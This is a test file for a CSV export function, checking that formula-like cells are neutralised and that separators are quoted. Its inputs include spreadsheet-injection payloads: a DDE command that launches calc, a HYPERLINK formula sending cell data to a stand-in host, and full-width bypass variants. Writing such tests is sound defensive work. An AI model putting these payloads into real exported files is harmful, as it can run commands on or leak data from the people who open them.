// Tests which cells of a CSV file are quoted, and that no spreadsheet reads a text as a formula.
import { parse } from 'csv-parse/sync';
import { expect, test } from 'vitest';
import { csvText } from '#values/csv.ts';

test.each([
  '=1+1',
  '+1+1',
  '-1+1',
  '-2+3+cmd|" /C calc"!A0',
  '@SUM(A1)',
  '\t=1',
  '\r=1',
  '\n=1',
  '=HYPERLINK("https://other.example/?"&A1,"Invoice")',
  '＝1',
  '＋1',
  '－1',
  '＠SUM(A1)',
  '--5',
  '-5,00',
])('writes %j as a text', (text) => {
  expect(parse(csvText([[text, 'next']]))).toEqual([[`'${text}`, 'next']]);
});

test('leaves numbers, names and what does not begin like a formula as they are', () => {
  const row = [-5, '-5', '-12.50', 0, 'a=b', '1-2', 'ada+shop@example.com', '', null];
  expect(csvText([row])).toBe('-5,-5,-12.50,0,a=b,1-2,ada+shop@example.com,,\r\n');
});

test('quotes separators, quotes and line breaks', () => {
  const row = ['a,b', 'say "hi"', 'two\nlines'];
  expect(parse(csvText([row, ['x', 'y', 'z']]))).toEqual([row, ['x', 'y', 'z']]);
});
